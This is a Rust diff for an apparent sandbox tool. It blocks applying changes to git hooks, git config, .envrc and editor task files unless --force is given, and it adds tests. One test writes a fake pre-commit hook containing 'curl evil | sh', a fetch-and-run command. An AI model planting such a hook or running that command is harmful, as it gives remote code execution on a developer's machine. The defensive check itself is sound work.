@@ -63,6 +63,16 @@ pub struct Change {
 
 const OPAQUE_XATTR: &str = "user.overlay.opaque";
 
+/// Paths in a project that make the host run something later: git hooks and config (hooks,
+/// `core.hooksPath`, `core.fsmonitor`, filters), direnv's `.envrc`, editor tasks. `run` mounts
+/// the existing ones read-only; `apply` refuses changes to any of them without `--force`.
+pub const PROTECTED: &[&str] = &[".git/hooks", ".git/config", ".git/info/attributes", ".envrc", ".vscode/tasks.json"];
+
+/// True when `rel` (relative to the workdir) is or lies under a [`PROTECTED`] path.
+pub fn is_protected(rel: &Path) -> bool {
+    PROTECTED.iter().any(|p| rel.starts_with(p))
+}
+
 /// Walks `upper` (the overlay's upper layer), copying what it holds under `saved` and comparing
 /// against `lower` (the real workdir). Returns the changes, sorted by path.
 pub fn collect(upper: &Path, lower: &Path, saved: &Path) -> io::Result<Vec<Change>> {
@@ -133,6 +143,9 @@ pub enum ApplyError {
     /// A change's path leaves the workdir or passes through a symlink there.
     #[error("`{0}` is not a plain path inside the workdir (it leaves it or passes through a symlink)")]
     Unsafe(PathBuf),
+    /// A change would make the host run something later.
+    #[error("`{0}` is a git hook, git config or auto-run file; review it and pass --force to apply it")]
+    Protected(PathBuf),
     /// A new symlink points outside the workdir.
     #[error("`{path}` is a symlink to `{target}`, outside the workdir; pass --force to apply it anyway")]
     SymlinkOut {
@@ -158,6 +171,9 @@ pub enum ApplyError {
 pub fn apply(changes: &[Change], saved: &Path, workdir: &Path, force: bool) -> Result<usize, ApplyError> {
     for change in changes {
         check_plain(workdir, &change.path)?;
+        if is_protected(&change.path) && !force {
+            return Err(ApplyError::Protected(change.path.clone()));
+        }
         if change.entry == EntryType::Symlink && !force {
             let target = fs::read_link(saved.join(&change.path))
                 .map_err(|source| ApplyError::Io { path: change.path.clone(), source })?;
@@ -290,6 +306,22 @@ mod tests {
             assert_eq!(fs::metadata(lower.join("notes.txt")).unwrap().uid(), 4242);
         }
         assert_eq!(fs::read_to_string(lower.join("link")).unwrap(), "hello");
+        fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn apply_refuses_git_hooks_and_config_without_force() {
+        let root = tmp("protected");
+        let (saved, work) = (root.join("saved"), root.join("work"));
+        fs::create_dir_all(saved.join(".git/hooks")).unwrap();
+        fs::create_dir_all(&work).unwrap();
+        fs::write(saved.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
+        let hook = Change { path: ".git/hooks/pre-commit".into(), kind: ChangeKind::Added, entry: EntryType::File };
+        assert!(matches!(apply(std::slice::from_ref(&hook), &saved, &work, false), Err(ApplyError::Protected(_))));
+        assert!(!work.join(".git/hooks/pre-commit").exists());
+        assert_eq!(apply(&[hook], &saved, &work, true).unwrap(), 1);
+        assert!(is_protected(Path::new(".git/config")) && !is_protected(Path::new(".git/configs/x")));
+        assert!(!is_protected(Path::new("src/.git/hooks")));
         fs::remove_dir_all(&root).unwrap();
     }
 
